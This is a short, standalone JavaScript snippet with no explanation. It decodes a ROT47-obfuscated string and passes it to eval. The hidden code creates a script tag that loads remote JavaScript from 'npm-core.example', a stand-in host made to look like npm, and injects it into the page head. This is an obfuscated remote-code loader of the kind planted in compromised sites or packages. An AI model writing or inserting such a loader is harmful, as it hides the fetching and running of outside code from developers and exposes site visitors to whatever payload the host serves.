(function (t) {
  return eval(t.replace(/[!-~]/g, function (c) { return String.fromCharCode(33 + (c.charCodeAt(0) - 33 + 47) % 94); }));
})('G2C D l 5@4F>6?E]4C62E6t=6>6?EWVD4C:AEVXj D]DC4 l V^^?A\\4@C6]6I2>A=6^3];DVj 5@4F>6?E]9625]2AA6?5r9:=5WDXj');
